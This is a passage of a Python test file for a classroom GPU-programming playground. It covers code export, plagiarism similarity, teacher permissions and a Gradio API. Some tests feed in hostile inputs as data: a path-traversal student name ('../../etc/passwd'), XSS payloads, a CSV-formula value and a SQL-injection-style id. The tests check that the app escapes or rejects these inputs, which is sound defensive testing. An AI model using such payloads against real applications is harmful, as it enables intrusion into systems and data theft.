    assert {r["student"]: float(r["total"]) for r in everything}["Grace"] == 6.0
    assert room.grades("Ada", "", "")["error"]["stage"] == "permission"


def test_the_code_export_holds_every_submission_with_its_code_and_an_index(tmp_path):
    room = room_for(tmp_path)
    accepted(room, "Ada", source="def vector_add(N): pass  # Ada's\n")
    room.store.add_submission("vector_add", "../../etc/passwd", "print('mallory')\n", {"block_N": 64},
                              accepted=False, message="-2+3")
    answer = room.export_code("teacher", "", "vector_add")
    with zipfile.ZipFile(io.BytesIO(answer["zip"])) as z:
        names = z.namelist()
        index = list(csv.DictReader(io.StringIO(z.read("index.csv").decode())))
        assert sorted(names) == sorted(["index.csv"] + [r["file"] for r in index])
        assert all(n == "index.csv" or (n.startswith("code/") and ".." not in n) for n in names)
        assert {r["student"] for r in index} == {"Ada", "../../etc/passwd"}
        assert {r["message"] for r in index} >= {"'-2+3"}
        assert any("Ada's" in z.read(r["file"]).decode() for r in index)
    assert room.export_code("Ada", "", "")["error"]["stage"] == "permission"


# -- similarity ----------------------------------------------------------------------------------------------------------
COPIED = '''
def helper(total, width):
    blocks = (total + width - 1) // width
    extra = max(total % width, 5)
    for step in range(blocks):
        extra = extra * 3 + step - 2
    return blocks * 3 + extra - 2
'''
RENAMED_AND_REFORMATTED = '''
def h(n,w):
    # mine, really
    b=(n+w-1)//w; e=max(n%w,5)
    for s in range(b): e=e*3+s-2
    return b*3+e-2
'''
UNRELATED = '''
def other(a):
    values = [a, a * a, a ** 3]
    return sum(v for v in values if v % 2 == 0) / len(values)
'''


def test_similarity_survives_renaming_and_reformatting_and_counts_the_starter_for_nobody(tmp_path):
    assert similarity.tokens("x = 1  # c\ny = 'a'") == similarity.tokens("apple=2;banana = \"b\"")
    starter = room_for(tmp_path).exercises_by_name()["vector_add"].starter
    subs = [{"id": 1, "student": "Ada", "source": starter + COPIED},
            {"id": 2, "student": "Grace", "source": RENAMED_AND_REFORMATTED + starter},
            {"id": 3, "student": "Alan", "source": starter + UNRELATED},
            {"id": 4, "student": "Ada", "source": starter}]
    pairs = similarity.pairs(subs, base=starter)
    assert (pairs[0]["student_a"], pairs[0]["student_b"], pairs[0]["a"], pairs[0]["b"]) == ("Ada", "Grace", 1, 2)
    assert pairs[0]["similarity"] > 0.5 and pairs[0]["rank"] == 1
    assert all(p["similarity"] < 0.2 for p in pairs[1:]), pairs
    assert similarity.pairs([subs[3], {"id": 5, "student": "Bob", "source": starter}], base=starter) == [], \
        "the starter alone is nobody's copy"
    assert similarity.tokens("def broken(:\n  'unterminated") != []  # text tokenize cannot read is still read


def test_the_side_by_side_view_shows_code_and_names_as_text(tmp_path):
    room = room_for(tmp_path)
    a = room.store.add_submission("vector_add", "<img src=x onerror=alert(1)>", "<script>alert(1)</script>\n", {},
                                  accepted=False)
    b = room.store.add_submission("vector_add", "Grace", "print(1)\n", {}, accepted=False)
    view = room.side_by_side("teacher", "", a, b)["html"]
    assert "<script>" not in view and "&lt;script&gt;" in view and "<img" not in view
    assert room.side_by_side("Grace", "", a, b)["error"]["stage"] == "permission"
    assert room.similar("teacher", "", "vector_add")["submissions"] == 2


# -- the rules' edges -----------------------------------------------------------------------------------------------------
def test_every_teacher_action_refuses_a_student_and_bad_input_gets_a_message(tmp_path):
    room = room_for(tmp_path)
    actions = [("roster_list",), ("roster_preview", "Ada"), ("remove_student", "Ada"), ("reset_password", "Ada"),
               ("export_code", ""), ("grades", ""), ("board_preview", "vector_add"), ("undo_reset", "vector_add"),
               ("flag", 1, "x"), ("unflag", 1), ("announce", "x"), ("extend", "vector_add", "Ada", "2030-01-01"),
               ("similar", "vector_add"), ("side_by_side", 1, 2), ("progress", "vector_add"), ("rerun", 1),
               ("all_submissions", "", "Grace"), ("left_out_exercises",)]
    for method, *args in actions:
        answer = getattr(room, method)("Ada", "", *args)
        assert answer["error"]["stage"] == "permission", method
    for method, *args in (("similar", "nope"), ("progress", ""), ("grades", "../x"), ("board_preview", None),
                          ("extend", "vector_add", "Ada", "2030-01-01"), ("flag", "1; DROP", "x"),
                          ("unflag", 10 ** 30), ("open_submission", -1)):
        answer = getattr(room, method)("teacher", "", *args)
        assert answer["error"]["stage"] == "parameters" and answer["error"]["message"], (method, answer)


def test_a_grade_answer_speed_of_light_is_its_larger_share_and_the_record_keeps_known_keys_only():
    assert submitting.speed_of_light({"percent_of_copy_bandwidth": 81.0, "percent_of_matmul_peak": 2.0}) == 81.0
    assert submitting.speed_of_light({"percent_of_copy_bandwidth": None, "percent_of_matmul_peak": 64.0}) == 64.0
    assert submitting.speed_of_light({"percent_of_copy_bandwidth": float("nan")}) is None
    assert submitting.speed_of_light({"percent_of_copy_bandwidth": True}) is None
    record = submitting.measurement_record({"device": {"name": "NVIDIA H200", "driver": "580", "junk": "x" * 10,
                                                       "clocks_mhz": {"sm": 1980}}})
    assert record == {"name": "NVIDIA H200", "driver": "580", "clocks_mhz": {"sm": 1980}}
    huge = submitting.measurement_record({"device": {"name": "G", "driver": "d", "cuda": "x" * 20000}})
    assert huge == {"name": "G", "driver": "d", "tilelang": None}


def test_the_class_package_runs_without_gradio():
    code = "import sys, playground.course; assert 'gradio' not in sys.modules, 'gradio imported'; print('ok')"
    done = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0 and done.stdout.strip() == "ok", done.stderr[-2000:]


def test_the_class_api_answers_json_for_every_new_endpoint(tmp_path):
    """The endpoints go through Gradio's server and client with the class's login in front of them."""
    import gradio as gr
    from gradio_client import Client
    import socket
    from playground.ui import classroom as cls
    room = cls.install(cls.Classroom(Settings(data_dir=tmp_path / "data", teacher_password=TEACHER_PW,
                                              password=CLASS_PW), exercises_dir=exercise_folder(tmp_path).parent))
    accepted(room, "Ada", sol=42.0, gpu="NVIDIA H100 80GB HBM3")
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    with gr.Blocks() as demo:
        cls.register(4, "engine")
    demo.queue()
    _, url, _ = demo.launch(server_name="127.0.0.1", server_port=port, auth=room.login, prevent_thread_lock=True,
                            quiet=True)
    try:
        ada = Client(url, auth=("Ada", CLASS_PW), verbose=False)
        assert ada.predict("Anon A", api_name="/board_name")["alias"] == "Anon A"
        assert ada.predict("vector_add", api_name="/leaderboard")["rows"][0]["student"] == "Anon A"
        assert ada.predict("", api_name="/teacher_grades")["error"]["stage"] == "permission"
        teacher = Client(url, auth=("teacher", TEACHER_PW), verbose=False)
        assert teacher.predict("Mind the deadline", "", api_name="/teacher_announce")["ok"]
        assert ada.predict(api_name="/announcement")["announcement"]["text"] == "Mind the deadline"
        grades = teacher.predict("vector_add", "", api_name="/teacher_grades")
        assert grades["csv"].splitlines() == ["student,score", "Ada,10.0"]
        code = teacher.predict("", "", api_name="/teacher_export_code")
        import base64
        assert zipfile.ZipFile(io.BytesIO(base64.b64decode(code["zip_b64"]))).read("index.csv")
        assert teacher.predict(1, "copied", "", api_name="/teacher_flag")["ok"]
        assert ada.predict("vector_add", api_name="/leaderboard")["rows"] == []
        assert teacher.predict("", api_name="/teacher_students")["rows"][0]["student"] == "Ada"
        assert json.dumps(teacher.predict("vector_add", "", api_name="/teacher_progress"))
    finally:
        demo.close()
        cls.install(None)
